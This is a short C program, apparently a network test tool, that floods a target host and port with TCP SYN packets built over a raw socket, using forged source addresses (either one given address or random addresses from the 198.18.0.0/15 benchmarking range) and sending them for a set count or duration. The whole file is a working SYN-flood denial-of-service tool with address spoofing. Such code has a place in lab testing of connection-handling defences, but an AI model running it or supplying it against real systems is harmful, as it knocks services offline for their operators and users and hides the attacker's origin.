// SPDX-License-Identifier: GPL-2.0-only
/*
 * Asks for TCP connections that it will never take up, from addresses that it does not have.
 *
 * usage: flood TARGET PORT SOURCE COUNT		from one source
 *        flood TARGET PORT random SECONDS	from any of 198.18.0.0/15, as fast as it goes
 * Prints how many it sent.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

struct segment {
	struct iphdr ip;
	struct tcphdr tcp;
};

/* RFC 1071, in the machine's order. */
static unsigned short fold(const void *from, size_t bytes, unsigned long sum)
{
	const unsigned short *words = from;
	size_t i;

	for (i = 0; i < bytes / 2; i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static void make_syn(struct segment *s, unsigned int source, unsigned int target, int port)
{
	memset(s, 0, sizeof(*s));
	s->ip.version = 4;
	s->ip.ihl = 5;
	s->ip.tot_len = htons(sizeof(*s));
	s->ip.ttl = 64;
	s->ip.protocol = IPPROTO_TCP;
	s->ip.saddr = source;
	s->ip.daddr = target;
	s->tcp.source = htons(1024 + rand() % 60000);
	s->tcp.dest = htons(port);
	s->tcp.seq = rand();
	s->tcp.doff = 5;
	s->tcp.syn = 1;
	s->tcp.window = htons(1000);
	/* The pseudo header's sum: addresses, protocol, length. */
	s->tcp.check = fold(&s->tcp, sizeof(s->tcp),
			    (source & 0xffff) + (source >> 16) + (target & 0xffff) + (target >> 16) +
			    htons(IPPROTO_TCP) + htons(sizeof(s->tcp)));
}

int main(int argc, char **argv)
{
	bool random = argc == 5 && !strcmp(argv[3], "random");
	struct sockaddr_in to = { .sin_family = AF_INET };
	long sent = 0, count;
	struct segment s;
	time_t end;
	int fd;

	if (argc != 5)
		return 2;
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	to.sin_addr.s_addr = inet_addr(argv[1]);
	count = atol(argv[4]);
	end = time(NULL) + count;
	while (random ? time(NULL) < end : sent < count) {
		unsigned int source = random ? htonl(0xc6120000 + (rand() & 0x1ffff)) : inet_addr(argv[3]);

		make_syn(&s, source, to.sin_addr.s_addr, atoi(argv[2]));
		if (sendto(fd, &s, sizeof(s), 0, (struct sockaddr *)&to, sizeof(to)) != sizeof(s)) {
			perror("flood");
			return 1;
		}
		sent++;
	}
	printf("%ld\n", sent);
	return 0;
}
